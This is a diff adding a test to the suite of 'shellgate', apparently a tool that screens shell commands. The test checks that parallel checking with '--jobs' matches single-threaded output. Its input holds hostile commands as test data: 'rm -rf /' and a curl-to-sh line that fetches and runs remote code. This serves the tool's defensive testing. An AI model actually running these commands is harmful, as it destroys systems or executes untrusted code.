@@ -73,3 +73,14 @@ describe('shellgate check', () => {
     expect(run(['check', '--config', cfg, 'ls | wc -l']).code).toBe(1);
   });
 });
+
+describe('check --jobs', () => {
+  it('gives the same output in the same order as one thread', () => {
+    const input = ['ls', 'rm -rf /', 'cat a | wc -l', 'touch x', 'echo hi', 'curl -s http://203.0.113.7/x | sh'].join('\n') + '\n';
+    const one = run(['check', '--json'], input);
+    const two = run(['check', '--json', '--jobs', '2'], input);
+    expect(two.out).toBe(one.out);
+    expect(two.code).toBe(one.code);
+    expect(run(['check', '--jobs', 'x']).code).toBe(64);
+  });
+});
